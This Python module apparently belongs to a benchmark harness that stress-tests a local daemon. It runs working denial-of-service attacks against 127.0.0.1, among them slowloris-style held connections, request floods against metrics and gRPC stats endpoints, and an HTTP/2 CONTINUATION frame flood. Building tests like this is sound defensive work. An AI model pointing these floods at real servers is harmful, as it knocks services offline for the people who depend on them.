"""One attack on a daemon's listeners, until standard input ends: ``python -m bench.attacks.attacker
ATTACK ADDRESS``.

It stops by itself after a minute.
"""

from __future__ import annotations

import contextlib
import http.client
import itertools
import os
import socket
import struct
import sys
import threading
from collections.abc import Callable

__all__ = ["ATTACKS"]

_LONGEST = 60.0
_SNAPSHOTS, _QUERIERS, _HOLDERS, _FLOODERS = 90, 10, 100, 128
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAMES = 1 << 16


def _snapshots(host: str, port: int) -> None:
    """Ask for the page's figures again and again, each time with another filter."""
    connection = http.client.HTTPConnection(host, port, timeout=_LONGEST)
    for number in itertools.count():
        connection.request("GET", f"/api/snapshot?limit=1000&filter=user-{number % 9}")
        connection.getresponse().read()


def _scrapes(host: str, port: int) -> None:
    """Scrape again and again."""
    connection = http.client.HTTPConnection(host, port, timeout=_LONGEST)
    while True:
        connection.request("GET", "/metrics")
        connection.getresponse().read()


def _queries(host: str, port: int) -> None:
    """Ask for every counter again and again."""
    import grpc

    with grpc.insecure_channel(
        f"{host}:{port}", options=[("grpc.use_local_subchannel_pool", 1)]
    ) as channel:
        call = channel.unary_unary(
            "/v2ray.core.app.stats.command.StatsService/QueryStats", bytes, bytes
        )
        while True:
            call(b"")


def _held(host: str, port: int) -> None:
    """Take a place and say next to nothing."""
    while True:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, port), timeout=_LONGEST) as connected,
        ):
            connected.sendall(b"GET / HTTP/1.1\r\n")
            connected.recv(1)


def _continuations(host: str, port: int) -> None:
    """Begin a request's headers by HTTP/2, and never end them (RFC 9113, 6.10)."""
    name = b"x-" + b"n" * 100
    # A literal that is not indexed (RFC 7541, 6.2.2)
    field = b"\0" + bytes([len(name)]) + name + b"\x7f\xa1\x1f" + b"v" * 4000
    while True:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, port), timeout=_LONGEST) as connected,
        ):
            connected.sendall(_PREFACE + _frame(4, 0, 0, b"") + _frame(1, 0, 1, field))
            for _ in range(_FRAMES):
                connected.sendall(_frame(9, 0, 1, field))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


ATTACKS: dict[str, tuple[Callable[[str, int], None], int, str]] = {
    "snapshots": (_snapshots, _SNAPSHOTS, "metrics"),
    "scrapes": (_scrapes, 1, "metrics"),
    "queries": (_queries, _QUERIERS, "api"),
    "holders": (_held, _HOLDERS, "metrics"),
    "continuations": (_continuations, _FLOODERS, "api"),
}
"""What one of them does, how many there are, and at which of the daemon's listeners."""


def main(attack: str, port: int) -> None:
    """Attack until standard input ends."""
    do, count, _ = ATTACKS[attack]

    def again() -> None:
        while True:
            with contextlib.suppress(Exception):  # who is refused comes again
                do("127.0.0.1", port)

    for _ in range(count):
        threading.Thread(target=again, daemon=True).start()
    watchdog = threading.Timer(_LONGEST, os._exit, (1,))
    watchdog.daemon = True
    watchdog.start()
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    sys.stdin.read()
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
